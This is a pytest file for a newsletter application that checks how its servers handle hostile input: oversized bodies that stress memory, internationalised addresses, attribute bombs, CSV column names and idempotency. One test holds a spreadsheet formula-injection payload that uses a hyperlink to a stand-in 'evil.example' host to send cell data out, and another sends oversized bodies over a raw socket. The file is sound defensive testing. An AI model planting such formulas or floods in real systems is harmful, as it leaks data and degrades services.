@@ -1,0 +1,550 @@
+"""Hostile input at the web face, against real servers on both databases: bodies too large
+to hold (sent by strangers and by token holders), internationalised addresses, attribute
+bombs, CSV formulas in column names, batch positions, and a failing idempotent request.
+
+The memory tests run ``tidings serve`` as its own process and read its RSS from /proc."""
+
+import asyncio
+import csv
+import html
+import io
+import json
+import os
+import re
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import httpx
+import pytest
+from sqlalchemy import select, text
+
+from tests.builders import articles, newsletter, subscribers
+from tests.smtpserver import free_port, smtp_server
+from tests.web.console import csrf, make_user, sign_in
+from tests.web.forms import form_to
+from tests.web.site import Site, site_with_mail
+from tests.webserver import web_server
+from tidings.apitokens import create_token
+from tidings.audience.service import import_subscribers
+from tidings.config import Settings, SmtpTarget
+from tidings.db.engine import Database
+from tidings.db.models import IdempotencyKey, Newsletter, Subscriber, UserRole
+from tidings.deliver.transport import PermanentDeliveryError, SmtpConnection
+
+MB = 1024 * 1024
+HUGE = 300 * MB
+#: How much the server's peak RSS may grow while refusing a huge body.
+RSS_ALLOWANCE = 40 * MB
+
+
+# --- the server as its own process, and its memory --------------------------------------
+
+
+@dataclass
+class Served:
+    port: int
+    pid: int
+
+
+def _memory(pid: int) -> dict[str, int]:
+    """VmRSS and VmHWM (peak) of a process, in bytes, from /proc/PID/status."""
+    figures = {}
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            name, _, value = line.partition(":")
+            if name in ("VmRSS", "VmHWM"):
+                figures[name] = int(value.split()[0]) * 1024
+    return figures
+
+
+@contextmanager
+def _tidings_serve(settings: Settings) -> Iterator[Served]:
+    port = free_port()
+    env = {k: v for k, v in os.environ.items() if not k.startswith("TIDINGS_")}
+    env.update(
+        TIDINGS_DATABASE_URL=settings.resolved_database_url,
+        TIDINGS_SECRET_KEY=settings.secret,
+        TIDINGS_DATA_DIR=str(settings.data_dir),
+    )
+    process = subprocess.Popen(
+        [sys.executable, "-m", "tidings", "serve", "--port", str(port)],
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    try:
+        deadline = time.monotonic() + 30
+        while True:
+            try:
+                if httpx.get(f"http://127.0.0.1:{port}/healthz").status_code == 200:
+                    break
+            except httpx.TransportError:
+                pass
+            assert process.poll() is None, "tidings serve exited"
+            assert time.monotonic() < deadline, "tidings serve did not start"
+            time.sleep(0.1)
+        yield Served(port, process.pid)
+    finally:
+        process.terminate()
+        process.wait(timeout=15)
+
+
+def _json_body(size: int) -> Iterator[bytes]:
+    """A bulk import of about ``size`` bytes, generated as it is sent."""
+    yield b'{"newsletter": "daily", "subscribers": ['
+    record = b'{"email": "reader@example.ge", "name": "Nino Abashidze"},' * 1000
+    for _ in range(size // len(record)):
+        yield record
+
+
+@dataclass
+class Answer:
+    status: int
+    body: bytes
+    seconds: float
+
+
+def _raw_post(port: int, path: str, headers: dict[str, str], chunked: bool, size: int) -> Answer:
+    """POST a generated body of ``size`` bytes over a raw socket (a thread keeps sending
+    while the answer is awaited), as an attacker would; the answer and how long it took."""
+    sock = socket.create_connection(("127.0.0.1", port), timeout=60)
+    framing = {"Transfer-Encoding": "chunked"} if chunked else {"Content-Length": str(size)}
+    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
+    head += "".join(f"{k}: {v}\r\n" for k, v in {**headers, **framing}.items())
+    sock.sendall((head + "\r\n").encode())
+    started = time.monotonic()
+
+    def pump() -> None:
+        try:
+            for chunk in _json_body(size):
+                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk) if chunked else chunk)
+            if chunked:
+                sock.sendall(b"0\r\n\r\n")
+        except OSError:
+            pass  # the server answered and closed: what a refusal looks like
+
+    sender = threading.Thread(target=pump, daemon=True)
+    sender.start()
+    received = b""
+    try:
+        while b"\r\n\r\n" not in received:
+            part = sock.recv(65536)
+            if not part:
+                break
+            received += part
+        head_part, _, body = received.partition(b"\r\n\r\n")
+        length = re.search(rb"(?i)content-length: *(\d+)", head_part)
+        while length and len(body) < int(length.group(1)):
+            part = sock.recv(65536)
+            if not part:
+                break
+            body += part
+    finally:
+        seconds = time.monotonic() - started
+        sock.close()
+        sender.join(timeout=30)
+    return Answer(int(received.split(b" ", 2)[1]), body, seconds)
+
+
+@pytest.fixture
+def served(db: Database, settings: Settings) -> Iterator[tuple[Served, str]]:
+    newsletter(db)
+    _, secret = create_token(db, "importer", UserRole.admin, "test")
+    with _tidings_serve(settings) as server:
+        yield server, secret
+
+
+def _measure(served: Served, send: Callable[[], Answer]) -> tuple[Answer, dict[str, int]]:
+    """Send, and the server's RSS before and after and how much its peak grew meanwhile."""
+    httpx.get(f"http://127.0.0.1:{served.port}/healthz")
+    before = _memory(served.pid)
+    answer = send()
+    time.sleep(0.5)  # anything still reading would keep growing meanwhile
+    after = _memory(served.pid)
+    figures = {
+        "rss_before": before["VmRSS"],
+        "rss_after": after["VmRSS"],
+        "peak_growth": after["VmHWM"] - max(before["VmHWM"], before["VmRSS"]),
+    }
+    print(f"\n{figures}, answered {answer.status} in {answer.seconds:.2f} s")
+    return answer, figures
+
+
+def test_a_huge_declared_body_without_a_token_is_refused_unread(
+    served: tuple[Served, str],
+) -> None:
+    server, _ = served
+    answer, figures = _measure(
+        server,
+        lambda: _raw_post(server.port, "/api/v1/subscribers/import", {}, False, HUGE),
+    )
+    assert answer.status in (401, 413), answer.body[:300]
+    assert answer.seconds < 5, f"took {answer.seconds:.1f} s"
+    assert figures["rss_after"] - figures["rss_before"] < RSS_ALLOWANCE
+    assert figures["peak_growth"] < RSS_ALLOWANCE
+
+
+def test_a_huge_chunked_body_without_a_token_gets_401_unread(
+    served: tuple[Served, str],
+) -> None:
+    server, _ = served
+    answer, figures = _measure(
+        server,
+        lambda: _raw_post(server.port, "/api/v1/subscribers/import", {}, True, HUGE),
+    )
+    assert answer.status == 401, answer.body[:300]
+    assert json.loads(answer.body)["error"]["code"] == "unauthenticated"
+    assert answer.seconds < 5, f"took {answer.seconds:.1f} s"
+    assert figures["peak_growth"] < RSS_ALLOWANCE
+
+
+def test_a_huge_chunked_body_with_a_token_is_cut_off_at_the_cap(
+    served: tuple[Served, str],
+) -> None:
+    server, secret = served
+    auth = {"Authorization": f"Bearer {secret}"}
+    answer, figures = _measure(
+        server,
+        lambda: _raw_post(server.port, "/api/v1/subscribers/import", auth, True, HUGE),
+    )
+    assert answer.status == 413, answer.body[:300]
+    assert json.loads(answer.body)["error"]["code"] == "too_large"
+    assert answer.seconds < 5, f"took {answer.seconds:.1f} s"
+    assert figures["peak_growth"] < RSS_ALLOWANCE
+
+
+# --- a small cap on an in-process server: the console upload and the page shape ---------
+
+
+@pytest.fixture
+def small_cap(db: Database, settings: Settings) -> Iterator[Site]:
+    newsletter(db)
+    capped = settings.model_copy(update={"max_request_bytes": 256 * 1024})
+    with site_with_mail(db, capped) as site:
+        yield site
+
+
+def test_a_console_upload_over_the_cap_is_refused_and_not_stored(small_cap: Site) -> None:
+    client = sign_in(small_cap.base, make_user(small_cap.db, UserRole.admin))
+    big = b"email,name\n" + b"reader@example.ge,Nino\n" * 20_000
+    answer = client.post(
+        "/admin/subscribers/import",
+        data={"csrf_token": csrf(client), "newsletter": "daily"},
+        files={"file": ("readers.csv", big, "text/csv")},
+    )
+    assert answer.status_code == 413
+    assert "Request too large" in answer.text or "Content Too Large" in answer.text
+    uploads = small_cap.settings.data_dir / "uploads"
+    assert not uploads.exists() or not list(uploads.iterdir())
+
+
+def test_a_chunked_console_upload_over_the_cap_gets_a_plain_413(small_cap: Site) -> None:
+    client = sign_in(small_cap.base, make_user(small_cap.db, UserRole.admin))
+    token = csrf(client)
+    boundary = "tidingsboundary"
+    parts = [
+        f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n',
+        f'--{boundary}\r\nContent-Disposition: form-data; name="newsletter"\r\n\r\ndaily\r\n',
+        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="r.csv"\r\n'
+        "Content-Type: text/csv\r\n\r\nemail\r\n",
+    ]
+
+    def body() -> Iterator[bytes]:
+        for part in parts:
+            yield part.encode()
+        for _ in range(100):
+            yield b"reader@example.ge\r\n" * 1000
+        yield f"\r\n--{boundary}--\r\n".encode()
+
+    answer = client.post(
+        "/admin/subscribers/import",
+        content=body(),
+        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
+    )
+    assert answer.status_code == 413
+    assert answer.headers["content-type"].startswith("text/plain")
+
+
+# --- internationalised addresses ---------------------------------------------------------
+
+
+def _sign_up(site: Site, email: str) -> httpx.Response:
+    with httpx.Client() as client:
+        page = client.get(f"{site.base}/subscribe/daily")
+        data = {**form_to(page.text, "/subscribe/daily").hidden, "email": email, "name": "Nino"}
+        return client.post(f"{site.base}/subscribe/daily", data=data)
+
+
+def _stored_emails(db: Database) -> set[str]:
+    with db.session() as session:
+        return set(session.scalars(select(Subscriber.email)))
+
+
+@pytest.fixture
+def site(db: Database, settings: Settings) -> Iterator[Site]:
+    newsletter(db)
+    with site_with_mail(db, settings) as started:
+        yield started
+
+
+def test_an_idn_address_signs_up_and_gets_its_confirmation(site: Site) -> None:
+    answer = _sign_up(site, "Nino@Пример.РФ")
+    assert answer.status_code == 200, answer.text
+    assert _stored_emails(site.db) == {"nino@xn--e1afmkfd.xn--p1ai"}
+    deadline = time.monotonic() + 10
+    while not site.smtp.caught and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert site.smtp.recipients() == ["nino@xn--e1afmkfd.xn--p1ai"]
+
+
+def test_a_non_ascii_local_part_is_refused_at_the_door(site: Site) -> None:
+    answer = _sign_up(site, "нино@example.ge")
+    assert answer.status_code == 422
+    assert _stored_emails(site.db) == set()
+
+
+@pytest.fixture
+def api(db: Database, settings: Settings) -> Iterator[httpx.Client]:
+    newsletter(db)
+    _, secret = create_token(db, "admin", UserRole.admin, "test")
+    auth = {"Authorization": f"Bearer {secret}"}
+    with (
+        web_server(settings, db) as base,
+        httpx.Client(base_url=f"{base}/api/v1", headers=auth) as client,
+    ):
+        yield client
+
+
+def test_the_api_stores_idn_domains_in_ascii_and_refuses_utf8_local_parts(
+    api: httpx.Client, db: Database
+) -> None:
+    created = api.post("/subscribers", json={"email": "nino@пример.рф", "newsletter": "daily"})
+    assert created.status_code == 201, created.text
+    assert created.json()["email"] == "nino@xn--e1afmkfd.xn--p1ai"
+    refused = api.post("/subscribers", json={"email": "нино@example.ge", "newsletter": "daily"})
+    assert refused.status_code == 422
+    assert "before the @-sign" in refused.json()["error"]["message"]
+    suppressed = api.post("/suppressions", json={"email": "nika@ПРИМЕР.рф"})
+    assert suppressed.status_code == 201
+    bulk = api.post(
+        "/subscribers/import",
+        json={
+            "newsletter": "daily",
+            "subscribers": [{"email": "нино@example.ge"}, {"email": "Lasha@пример.рф"}],
+        },
+    )
+    assert bulk.status_code == 200, bulk.text
+    assert [e["position"] for e in bulk.json()["invalid"]] == [0]
+    assert _stored_emails(db) == {"nino@xn--e1afmkfd.xn--p1ai", "lasha@xn--e1afmkfd.xn--p1ai"}
+
+
+# --- attributes, positions and byte-order marks in the bulk import -----------------------
+
+
+def test_bulk_positions_are_record_indexes_and_a_bom_key_is_read(
+    api: httpx.Client, db: Database
+) -> None:
+    records = [
+        {"email": "a@example.ge", "name": "Line\nbreak\r\nand more\nbreaks"},
+        {"email": "b@example.ge", "note": "one\ntwo\nthree"},
+        {"email": "not an address"},
+        {"\ufeffemail": "bom@example.ge"},
+        {"email": "c@example.ge", "EMAIL": "d@example.ge"},
+    ]
+    answer = api.post("/subscribers/import", json={"newsletter": "daily", "subscribers": records})
+    assert answer.status_code == 200, answer.text
+    invalid = answer.json()["invalid"]
+    assert [e["position"] for e in invalid] == [2, 4]
+    assert "twice" in invalid[1]["reason"]
+    assert _stored_emails(db) == {"a@example.ge", "b@example.ge", "bom@example.ge"}
+
+
+def test_attribute_bombs_are_refused_per_subscriber(
+    api: httpx.Client, db: Database, settings: Settings
+) -> None:
+    wide = {
+        "email": "wide@example.ge",
+        **{f"c{i}": "x" for i in range(settings.max_attributes + 1)},
+    }
+    heavy = {
+        "email": "heavy@example.ge",
+        "bio": "y" * 900,
+        **{f"k{i}": "z" * 900 for i in range(20)},
+    }
+    fine = {"email": "fine@example.ge", "city": "Tbilisi"}
+    answer = api.post(
+        "/subscribers/import", json={"newsletter": "daily", "subscribers": [wide, heavy, fine]}
+    )
+    assert answer.status_code == 200, answer.text
+    reasons = {e["position"]: e["reason"] for e in answer.json()["invalid"]}
+    assert set(reasons) == {0, 1}
+    assert "attributes" in reasons[0] and "attributes" in reasons[1]
+    assert _stored_emails(db) == {"fine@example.ge"}
+    subscriber_id = api.get("/subscribers", params={"q": "fine"}).json()["items"][0]["id"]
+    patched = api.patch(
+        f"/subscribers/{subscriber_id}",
+        json={"attributes": {f"k{i}": "z" * 900 for i in range(20)}},
+    )
+    assert patched.status_code == 422
+    assert "bytes" in patched.json()["error"]["message"]
+
+
+def test_a_csv_with_ten_thousand_columns_is_refused_row_by_row(
+    db: Database, settings: Settings
+) -> None:
+    newsletter(db)
+    header = ["email", *(f"col{i}" for i in range(10_000))]
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(header)
+    writer.writerow(["wide@example.ge", *("v" * 10 for _ in range(10_000))])
+    writer.writerow(["narrow@example.ge", "kept", *("" for _ in range(9_999))])
+    with site_with_mail(db, settings) as site:
+        client = sign_in(site.base, make_user(db, UserRole.admin))
+        token = csrf(client)
+        preview = client.post(
+            "/admin/subscribers/import",
+            data={"csrf_token": token, "newsletter": "daily"},
+            files={"file": ("wide.csv", out.getvalue().encode(), "text/csv")},
+        )
+        assert preview.status_code == 200, preview.text
+        key = re.search(r"/admin/subscribers/import/([A-Za-z0-9_-]+)", preview.text)
+        assert key
+        done = client.post(
+            f"/admin/subscribers/import/{key.group(1)}",
+            data={"csrf_token": token, "newsletter": "daily"},
+        )
+        assert done.status_code == 200, done.text
+        report = client.get(f"/admin/subscribers/import/{key.group(1)}/report.csv").text
+    assert "invalid row, line 2" in report and "10000 attributes" in report
+    assert _stored_emails(db) == {"narrow@example.ge"}
+    with db.session() as session:
+        kept = session.scalar(select(Subscriber).where(Subscriber.email == "narrow@example.ge"))
+        assert kept is not None and kept.attributes == {"col0": "kept"}
+
+
+# --- CSV formulas in column names ---------------------------------------------------------
+
+
+def test_a_formula_column_name_is_guarded_on_export_and_read_back(
+    api: httpx.Client, db: Database, tmp_path: Path
+) -> None:
+    created = api.post(
+        "/subscribers", json={"email": "nino@example.ge", "newsletter": "daily", "confirmed": True}
+    ).json()
+    formula = '=hyperlink("http://evil.example/?x="&a2,"click")'
+    patched = api.patch(f"/subscribers/{created['id']}", json={"attributes": {formula: "1"}})
+    assert patched.status_code == 200, patched.text
+    base = str(api.base_url).removesuffix("/api/v1/")
+    client = sign_in(base, make_user(db, UserRole.admin))
+    exported = client.get("/admin/subscribers/export.csv", params={"newsletter": "daily"}).text
+    header = next(csv.reader(io.StringIO(exported)))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
+    assert "'" + formula in header
+    # The import reads the guarded name back as the attribute it was.
+    api.delete(f"/subscribers/{created['id']}")
+    path = tmp_path / "export.csv"
+    path.write_text(exported, encoding="utf-8")
+    import_subscribers(db, "daily", path, True, 100)
+    with db.session() as session:
+        back = session.scalar(select(Subscriber).where(Subscriber.email == "nino@example.ge"))
+        assert back is not None and back.attributes == {formula: "1"}
+
+
+# --- sender names with commas and @ ------------------------------------------------------
+
+
+def test_a_quoted_sender_survives_the_api_and_the_console(api: httpx.Client, db: Database) -> None:
+    sender = '"Daily, The Paper @ Tbilisi" <desk@messenger.example.ge>'
+    patched = api.patch("/newsletters/daily", json={"sender": sender})
+    assert patched.status_code == 200, patched.text
+    assert patched.json()["sender"] == sender
+    # Editing something else sends the stored sender back: it must parse the same.
+    again = api.patch("/newsletters/daily", json={"name": "The Daily"})
+    assert again.status_code == 200, again.text
+    assert again.json()["sender"] == sender
+    base = str(api.base_url).removesuffix("/api/v1/")
+    client = sign_in(base, make_user(db, UserRole.admin))
+    form = client.get("/admin/newsletters/daily/edit").text
+    shown = re.search(r'id="sender"[^>]*value="([^"]*)"', form)
+    assert shown, form
+    value = html.unescape(shown.group(1))
+    assert value == sender
+    fields = {
+        "csrf_token": csrf(client),
+        "name": "The Daily",
+        "sender": value,
+        "schedule": "0 7 * * *",
+        "timezone": "Asia/Tbilisi",
+        "min_articles": "1",
+        "max_articles": "10",
+    }
+    saved = client.post("/admin/newsletters/daily/edit", data=fields)
+    assert saved.status_code == 303, saved.text
+    with db.session() as session:
+        stored = session.scalar(select(Newsletter).where(Newsletter.slug == "daily"))
+        assert stored is not None
+        assert (stored.from_name, stored.from_address) == (
+            "Daily, The Paper @ Tbilisi",
+            "desk@messenger.example.ge",
+        )
+
+
+# --- an idempotency key after a database error -------------------------------------------
+
+
+def test_an_idempotency_key_is_released_after_a_database_error(
+    db: Database, settings: Settings
+) -> None:
+    newsletter(db)
+    subscribers(db, "daily", 2)
+    articles(db, "daily", 2, datetime.now(UTC) - timedelta(hours=1))
+    _, secret = create_token(db, "editor", UserRole.editor, "test")
+    body = {"newsletter": "daily", "subject": "Budget day"}
+    headers = {"Authorization": f"Bearer {secret}", "Idempotency-Key": "budget-day-1"}
+    with web_server(settings, db) as base:
+        with db.engine.begin() as connection:
+            connection.execute(text("ALTER TABLE deliveries RENAME TO deliveries_away"))
+        try:
+            failed = httpx.post(f"{base}/api/v1/editions", json=body, headers=headers)
+        finally:
+            with db.engine.begin() as connection:
+                connection.execute(text("ALTER TABLE deliveries_away RENAME TO deliveries"))
+        assert failed.status_code == 500
+        with db.session() as session:
+            assert session.scalars(select(IdempotencyKey)).all() == []
+        retried = httpx.post(f"{base}/api/v1/editions", json=body, headers=headers)
+        assert retried.status_code == 201, retried.text
+        repeated = httpx.post(f"{base}/api/v1/editions", json=body, headers=headers)
+        assert repeated.json() == retried.json()
+
+
+# --- a real send of an IDN address, and a UTF-8 one the server cannot take ---------------
+
+
+def test_transport_sends_idn_and_fails_one_utf8_delivery_cleanly() -> None:
+    async def run(port: int) -> str:
+        target = SmtpTarget("127.0.0.1", port, "none", None, None)
+        connection = SmtpConnection(target, timeout=5)
+        message = b"Subject: hi\r\n\r\nhello\r\n"
+        try:
+            with pytest.raises(PermanentDeliveryError) as refused:
+                await connection.send("d@example.ge", "нино@example.ge", message)
+            reply = await connection.send("d@example.ge", "nino@xn--e1afmkfd.xn--p1ai", message)
+            assert reply.code == 250
+            return str(refused.value)
+        finally:
+            await connection.close()
+
+    with smtp_server() as (handler, port):
+        reason = asyncio.run(run(port))
+        assert handler.recipients() == ["nino@xn--e1afmkfd.xn--p1ai"]
+    assert reason.startswith("553") and "SMTPUTF8" in reason
